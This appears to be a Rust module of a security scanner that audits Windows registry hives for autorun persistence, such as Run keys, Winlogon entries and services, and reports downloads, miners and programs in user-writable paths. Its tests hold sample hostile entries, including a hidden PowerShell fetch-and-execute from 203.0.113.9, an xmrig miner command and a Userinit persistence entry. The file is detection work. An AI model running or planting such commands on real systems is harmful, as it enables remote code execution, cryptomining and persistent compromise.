//! Autoruns in the registry hives of a Windows image, the counterpart of the Linux autostart
//! checks (cron, systemd units, `rc.local`): what Windows starts by itself, read from the hives
//! `windows_hives` reads (each hive is read once, for both families).
//!
//! - `SOFTWARE` `Microsoft\Windows\CurrentVersion\{Run,RunOnce}`, their `Wow6432Node` twins
//!   and `Policies\Explorer\Run` (run at every user's logon), and each user's `NTUSER.DAT`
//!   `Software\Microsoft\Windows\CurrentVersion\{Run,RunOnce}` and `Policies\Explorer\Run`
//!   (that user's logon; `Users\Default` seeds every new profile);
//! - `SYSTEM` `<current control set>\Services\*`: `ImagePath` and `Parameters\ServiceDll`
//!   (services run as SYSTEM or a service account). The control set is `Select\Current`'s,
//!   `ControlSet001` without it.
//!
//! Verdicts (see `windows_command` for how a command is judged), the way a persistence audit
//! (Sysinternals Autoruns' inventory, PrivescCheck's and Sigma's rules) reports them:
//! - downloads code and runs it, or runs encoded PowerShell: `windows-autorun-download-exec`,
//!   high; a known miner or a stratum pool: `miner-trace`, critical;
//! - the program is in a directory users may write by default: `windows-autorun-writable-path`,
//!   high for machine-wide entries and services (anyone who can log on replaces the program and
//!   gets run as every user who logs on, or as the service's account: a privilege escalation
//!   planted in every instance), medium for a user's own Run key (that user's own profile);
//! - any other `Run`/`RunOnce` entry: `windows-autorun`, info — an inventory, as Autoruns lists
//!   them: a stock Windows Server image has one or two (`SecurityHealth`), and what a publisher
//!   added is worth a look. Other services are not listed (a stock image has hundreds).
//! - a program added to Winlogon's `Shell` (default `explorer.exe`) or `Userinit` (default
//!   `C:\Windows\system32\userinit.exe,`): judged as above, and `windows-autorun` at high when
//!   otherwise ordinary (a classic persistence place that stock images leave at the default).
//!
//! Each finding names the key, the value and the command (shown with `windows_command::shown`).

use super::windows_command::{self, Judged};
use super::{CheckHit, CheckRule, clip, miner};
use crate::detect::hive::{Hive, HiveError, Value};
use crate::report::Severity;

/// Code fetched and run by an autorun.
pub(crate) const DOWNLOAD_RULE: CheckRule = CheckRule {
    id: "windows-autorun-download-exec",
    title: "Windows autorun or service downloads code and runs it",
    severity: Severity::High,
    remediation: "Delete the entry (`Remove-ItemProperty` on the Run key, `sc.exe delete` for a service) unless it is a vetted part of the image, and find how it got there; code fetched at every boot or logon is a classic persistence mechanism. Install software at build time instead.",
    suppresses: &[],
};

/// An autorun or service whose program users may replace.
pub(crate) const WRITABLE_RULE: CheckRule = CheckRule {
    id: "windows-autorun-writable-path",
    title: "Windows autorun or service runs a program from a user-writable directory",
    severity: Severity::High,
    remediation: "Install the program under `C:\\Program Files` (or restrict the folder's ACL with `icacls` so only administrators may write it), and point the Run value or the service's ImagePath there; as it is, any local user can replace the program and have it run as the service's account or as whoever logs on.",
    suppresses: &[],
};

/// Any other Run/RunOnce entry: the inventory.
pub(crate) const AUTORUN_RULE: CheckRule = CheckRule {
    id: "windows-autorun",
    title: "Program started at logon by the registry (Run, RunOnce, Winlogon)",
    severity: Severity::Info,
    remediation: "Check that the entry belongs in the image; remove what the build left (`Remove-ItemProperty -Path HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name NAME`).",
    suppresses: &[],
};

/// Every rule of the family (with `miner-trace`, which belongs to the miner family).
pub(crate) const RULES: &[CheckRule] = &[DOWNLOAD_RULE, WRITABLE_RULE, AUTORUN_RULE];

/// Most values or services judged per key.
const MAX_ITEMS: usize = 10_000;

/// Run keys of `SOFTWARE` (machine-wide).
const MACHINE_RUN: &[&str] = &[
    "Microsoft\\Windows\\CurrentVersion\\Run",
    "Microsoft\\Windows\\CurrentVersion\\RunOnce",
    "Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run",
    "Wow6432Node\\Microsoft\\Windows\\CurrentVersion\\Run",
    "Wow6432Node\\Microsoft\\Windows\\CurrentVersion\\RunOnce",
];

/// Run keys of a user's `NTUSER.DAT`.
const USER_RUN: &[&str] = &[
    "Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    "Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce",
    "Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run",
];

/// Whose an entry is: machine-wide entries and services run for everyone.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Scope {
    Machine,
    User,
}

/// The finding for one command at value `v`, `place` naming the key and value; `inventory`
/// says whether an ordinary command is reported (Run keys) or not (services).
fn judge_value(place: &str, v: &Value, scope: Scope, inventory: bool) -> Option<CheckHit> {
    let command = v.string();
    if command.trim().is_empty() {
        return None;
    }
    let j: Judged = windows_command::judge(&command);
    let shown = windows_command::shown(&command);
    let mut fp = place.as_bytes().to_vec();
    fp.push(0);
    fp.extend_from_slice(command.as_bytes());
    if let Some(m) = j.miner {
        return Some(at_value(
            &miner::RULE,
            miner::RULE.severity,
            v,
            format!("{place} runs a {m}: {shown}"),
            &fp,
        ));
    }
    if let Some(why) = j.download {
        return Some(at_value(
            &DOWNLOAD_RULE,
            DOWNLOAD_RULE.severity,
            v,
            format!("{place}: {why}: {shown}"),
            &fp,
        ));
    }
    if let Some(dir) = j.writable {
        let severity = match scope {
            Scope::Machine => Severity::High,
            Scope::User => Severity::Medium,
        };
        return Some(at_value(
            &WRITABLE_RULE,
            severity,
            v,
            format!("{place} runs a program in {dir}, which users may write by default: {shown}"),
            &fp,
        ));
    }
    inventory.then(|| {
        at_value(
            &AUTORUN_RULE,
            AUTORUN_RULE.severity,
            v,
            format!("{place}: {shown}"),
            &fp,
        )
    })
}

/// The values of the Run keys `keys` under `prefix` (`HKLM\SOFTWARE`, `HKU\<profile>`).
fn run_keys(
    h: &Hive<'_>,
    prefix: &str,
    keys: &[&str],
    scope: Scope,
) -> Result<Vec<CheckHit>, HiveError> {
    let mut hits = Vec::new();
    for path in keys {
        let Some(k) = h.key(path)? else {
            continue;
        };
        for v in h.values(k)?.into_iter().take(MAX_ITEMS) {
            let name = if v.name.is_empty() {
                "(default)".to_string()
            } else {
                clip(&v.name, 64)
            };
            let place = format!("{prefix}\\{path} `{name}`");
            hits.extend(judge_value(&place, &v, scope, true));
        }
    }
    Ok(hits)
}

/// Machine-wide Run keys and Winlogon's `Shell` and `Userinit` (`SOFTWARE`).
pub(crate) fn software(h: &Hive<'_>) -> Result<Vec<CheckHit>, HiveError> {
    let mut hits = run_keys(h, "HKLM\\SOFTWARE", MACHINE_RUN, Scope::Machine)?;
    hits.extend(winlogon(h)?);
    Ok(hits)
}

/// What Winlogon starts by default: `Shell` (Explorer) and `Userinit` (userinit.exe); both
/// are comma-separated lists, and a program added to either runs at every logon.
const WINLOGON: &[(&str, &[&str])] = &[
    ("Shell", &["explorer.exe", "\\windows\\explorer.exe"]),
    (
        "Userinit",
        &["userinit.exe", "\\windows\\system32\\userinit.exe"],
    ),
];

/// Programs added to Winlogon's `Shell` or `Userinit`: judged as any autorun, and high when
/// they are otherwise ordinary (a well-known persistence place; stock images hold only the
/// defaults).
fn winlogon(h: &Hive<'_>) -> Result<Vec<CheckHit>, HiveError> {
    let mut hits = Vec::new();
    let Some(k) = h.key("Microsoft\\Windows NT\\CurrentVersion\\Winlogon")? else {
        return Ok(hits);
    };
    for (name, defaults) in WINLOGON {
        let Some(v) = h.get(k, name)? else { continue };
        let value = v.string();
        for entry in value.split(',').map(str::trim).filter(|e| !e.is_empty()) {
            let program = windows_command::judge(entry).program;
            if defaults.contains(&program.as_str()) {
                continue;
            }
            let place =
                format!("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon `{name}`");
            let mut one = v.clone();
            one.data = entry.as_bytes().to_vec();
            if let Some(mut hit) = judge_value(&place, &one, Scope::Machine, true) {
                if hit.rule == AUTORUN_RULE.id {
                    hit.severity = Severity::High;
                    hit.evidence = format!(
                        "{place} runs more than the default {}: {}",
                        defaults[0],
                        windows_command::shown(entry)
                    );
                }
                // The span is the whole value's.
                hit.start = v.at;
                hit.end =
                    v.at.saturating_add(u64::try_from(v.data.len()).unwrap_or(0));
                hits.push(hit);
            }
        }
    }
    Ok(hits)
}

/// A user's Run keys (`NTUSER.DAT`).
pub(crate) fn ntuser(h: &Hive<'_>) -> Result<Vec<CheckHit>, HiveError> {
    run_keys(h, "HKCU", USER_RUN, Scope::User)
}

/// Services whose program is in a user-writable directory or fetches code (`SYSTEM`).
pub(crate) fn system(h: &Hive<'_>) -> Result<Vec<CheckHit>, HiveError> {
    let set = control_set(h)?;
    let mut hits = Vec::new();
    let Some(services) = h.key(&format!("{set}\\Services"))? else {
        return Ok(hits);
    };
    for k in h.subkeys(services)?.into_iter().take(MAX_ITEMS) {
        let name = clip(&h.name(k)?, 64);
        let start = h.get(k, "Start")?.and_then(|v| {
            v.data
                .get(..4)
                .map(|b| u32::from_le_bytes([b[0], b[1], b[2], b[3]]))
        });
        let state = if start == Some(4) { " (disabled)" } else { "" };
        if let Some(v) = h.get(k, "ImagePath")? {
            let place = format!("service `{name}`{state} ImagePath");
            hits.extend(judge_value(&place, &v, Scope::Machine, false));
        }
        if let Some(p) = h.subkey(k, "Parameters")?
            && let Some(v) = h.get(p, "ServiceDll")?
        {
            let place = format!("service `{name}`{state} ServiceDll");
            hits.extend(judge_value(&place, &v, Scope::Machine, false));
        }
    }
    Ok(hits)
}

/// The current control set of a `SYSTEM` hive: `Select\Current`'s, `ControlSet001` without it.
pub(super) fn control_set(h: &Hive<'_>) -> Result<String, HiveError> {
    if let Some(select) = h.key("Select")?
        && let Some(cur) = h.get(select, "Current")?
        && let Some(n) = dword(&cur)
        && (1..=999).contains(&n)
    {
        return Ok(format!("ControlSet{n:03}"));
    }
    Ok("ControlSet001".to_string())
}

/// A `REG_DWORD`'s number (its first four bytes, little-endian).
pub(super) fn dword(v: &Value) -> Option<u32> {
    v.data
        .get(..4)
        .map(|b| u32::from_le_bytes([b[0], b[1], b[2], b[3]]))
}

/// A finding at the data of value `v`.
pub(super) fn at_value(
    rule: &CheckRule,
    severity: Severity,
    v: &Value,
    evidence: String,
    fp: &[u8],
) -> CheckHit {
    CheckHit {
        rule: rule.id,
        severity,
        line: None,
        start: v.at,
        end: v
            .at
            .saturating_add(u64::try_from(v.data.len()).unwrap_or(0)),
        evidence,
        fingerprint_of: fp.to_vec(),
        secret: None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::hive::tests::{Builder, utf16z};

    const REG_SZ: u32 = 1;
    const REG_EXPAND_SZ: u32 = 2;
    const REG_DWORD: u32 = 4;

    /// A hive whose root holds the key path `path` with `values`.
    fn hive_with(path: &[&str], values: &[(&str, u32, Vec<u8>)]) -> Vec<u8> {
        let mut b = Builder::new();
        let vals: Vec<u32> = values.iter().map(|(n, t, d)| b.value(n, *t, d)).collect();
        let mut k = b.key(path[path.len() - 1], &[], &vals);
        for name in path[..path.len() - 1].iter().rev() {
            k = b.key(name, &[k], &[]);
        }
        let root = b.key("ROOT", &[k], &[]);
        b.finish(root)
    }

    fn run_hive(values: &[(&str, &str)]) -> Vec<u8> {
        let values: Vec<(&str, u32, Vec<u8>)> = values
            .iter()
            .map(|(n, c)| (*n, REG_SZ, utf16z(c)))
            .collect();
        hive_with(&["Microsoft", "Windows", "CurrentVersion", "Run"], &values)
    }

    fn brief(hits: &[CheckHit]) -> Vec<(&str, Severity)> {
        hits.iter().map(|h| (h.rule, h.severity)).collect()
    }

    #[test]
    fn machine_run_keys_are_judged_and_listed() {
        let bytes = run_hive(&[
            (
                "SecurityHealth",
                r"%windir%\system32\SecurityHealthSystray.exe",
            ),
            ("Updater", r"C:\ProgramData\Updater\updater.exe /silent"),
            (
                "Sync",
                "powershell -w hidden -c \"iwr http://203.0.113.9/s.ps1 | iex\"",
            ),
            ("Helper", r"C:\Users\Public\xmrig.exe --donate-level 1"),
            ("Empty", ""),
        ]);
        let h = Hive::parse(&bytes).unwrap();
        let hits = software(&h).unwrap();
        assert_eq!(
            brief(&hits),
            [
                ("windows-autorun", Severity::Info),
                ("windows-autorun-writable-path", Severity::High),
                ("windows-autorun-download-exec", Severity::High),
                ("miner-trace", Severity::Critical),
            ]
        );
        assert_eq!(
            hits[0].evidence,
            r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run `SecurityHealth`: %windir%\system32\SecurityHealthSystray.exe"
        );
        assert!(
            hits[1].evidence.contains("ProgramData"),
            "{}",
            hits[1].evidence
        );
    }

    #[test]
    fn programs_added_to_winlogon() {
        let values = vec![
            ("Shell", REG_SZ, utf16z("explorer.exe")),
            (
                "Userinit",
                REG_SZ,
                utf16z(r"C:\Windows\system32\userinit.exe,C:\Windows\system32\sethc2.exe,"),
            ),
        ];
        let bytes = hive_with(
            &["Microsoft", "Windows NT", "CurrentVersion", "Winlogon"],
            &values,
        );
        let h = Hive::parse(&bytes).unwrap();
        let hits = software(&h).unwrap();
        assert_eq!(brief(&hits), [("windows-autorun", Severity::High)]);
        assert_eq!(
            hits[0].evidence,
            r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon `Userinit` runs more than the default userinit.exe: C:\Windows\system32\sethc2.exe"
        );
        // The defaults alone give nothing.
        let values = vec![
            ("Shell", REG_SZ, utf16z("explorer.exe")),
            (
                "Userinit",
                REG_SZ,
                utf16z(r"C:\Windows\system32\userinit.exe,"),
            ),
        ];
        let bytes = hive_with(
            &["Microsoft", "Windows NT", "CurrentVersion", "Winlogon"],
            &values,
        );
        assert!(software(&Hive::parse(&bytes).unwrap()).unwrap().is_empty());
    }

    #[test]
    fn a_user_run_key_into_the_profile_is_medium() {
        let values = vec![(
            "OneDrive",
            REG_SZ,
            utf16z(r#""C:\Users\alice\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background"#),
        )];
        let bytes = hive_with(
            &[
                "Software",
                "Microsoft",
                "Windows",
                "CurrentVersion",
                "RunOnce",
            ],
            &values,
        );
        let h = Hive::parse(&bytes).unwrap();
        let hits = ntuser(&h).unwrap();
        assert_eq!(
            brief(&hits),
            [("windows-autorun-writable-path", Severity::Medium)]
        );
        assert!(hits[0].evidence.starts_with(r"HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce `OneDrive` runs a program in AppData"));
    }

    #[test]
    fn services_in_writable_paths_and_the_current_control_set() {
        let mut b = Builder::new();
        let svc = |b: &mut Builder, name: &str, image: &str, start: u32| {
            let i = b.value("ImagePath", REG_EXPAND_SZ, &utf16z(image));
            let s = b.value("Start", REG_DWORD, &start.to_le_bytes());
            b.key(name, &[], &[i, s])
        };
        let ok = svc(
            &mut b,
            "W32Time",
            r"%SystemRoot%\system32\svchost.exe -k LocalService",
            3,
        );
        let drv = svc(&mut b, "disk", r"\SystemRoot\System32\drivers\disk.sys", 0);
        let defender = svc(
            &mut b,
            "WinDefend",
            r#""C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2\MsMpEng.exe""#,
            2,
        );
        let bad = svc(
            &mut b,
            "AppUpdater",
            r"C:\ProgramData\AppUpdater\upd.exe",
            2,
        );
        let off = svc(&mut b, "OldAgent", r"C:\Windows\Temp\agent.exe", 4);
        let dll = b.value("ServiceDll", REG_EXPAND_SZ, &utf16z(r"%APPDATA%\x.dll"));
        let params = b.key("Parameters", &[], &[dll]);
        let host = b.key("Helper", &[params], &[]);
        let services2 = b.key("Services", &[ok, drv, defender, bad, off, host], &[]);
        let set2 = b.key("ControlSet002", &[services2], &[]);
        // ControlSet001 is stale: its service is not judged when Select\Current is 2.
        let stale = svc(&mut b, "Stale", r"C:\Users\Public\stale.exe", 2);
        let services1 = b.key("Services", &[stale], &[]);
        let set1 = b.key("ControlSet001", &[services1], &[]);
        let cur = b.value("Current", REG_DWORD, &2u32.to_le_bytes());
        let select = b.key("Select", &[], &[cur]);
        let root = b.key("ROOT", &[set1, set2, select], &[]);
        let bytes = b.finish(root);
        let h = Hive::parse(&bytes).unwrap();
        let hits = system(&h).unwrap();
        let ev: Vec<&str> = hits.iter().map(|h| h.evidence.as_str()).collect();
        assert_eq!(
            brief(&hits),
            [
                ("windows-autorun-writable-path", Severity::High),
                ("windows-autorun-writable-path", Severity::High),
                ("windows-autorun-writable-path", Severity::High),
            ],
            "{ev:#?}"
        );
        assert!(ev[0].starts_with("service `AppUpdater` ImagePath runs a program in ProgramData"));
        assert!(ev[1].starts_with(
            "service `OldAgent` (disabled) ImagePath runs a program in Windows\\Temp"
        ));
        assert!(ev[2].starts_with("service `Helper` ServiceDll runs a program in AppData"));
    }
}
